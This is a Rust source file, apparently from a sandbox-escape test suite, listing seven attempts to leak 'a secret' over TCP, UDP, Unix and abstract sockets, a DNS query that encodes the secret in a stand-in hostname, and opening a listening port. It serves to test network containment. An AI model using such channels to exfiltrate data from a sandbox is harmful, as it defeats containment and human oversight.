//! Talking to somebody.

use super::Ends::Scored;
use super::{Attack, Step::Begin};

macro_rules! way {
    ($name:literal, $way:literal) => {
        Attack::new(
            $name,
            &[Begin(concat!("let _ = ", $way, "(b\"a secret\") && { println!(\"sent\"); true };"))],
            Scored,
        )
        .gains()
    };
}

pub const ATTACKS: [Attack; 7] = [
    way!("tcp", "tcp").in_lab(),
    way!("udp", "udp"),
    way!("unix stream", "stream"),
    way!("unix datagram", "datagram"),
    way!("abstract socket", "abstract_stream").in_lab(),
    // A query for `a-secret.example`: what is asked for is what is told.
    Attack::new(
        "dns",
        &[Begin(
            r#"udp(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x08a-secret\x07example\x00\x00\x01\x00\x01");
use std::net::ToSocketAddrs as _;
let _ = ("a-secret.invalid", 80).to_socket_addrs();"#,
        )],
        Scored,
    )
    .gains(),
    Attack::new(
        "listens itself",
        &[Begin(
            r#"if std::net::TcpListener::bind(("127.0.0.1", 0)).is_ok() {
    got("a port to listen at", b"");
}"#,
        )],
        Scored,
    )
    .gains(),
];
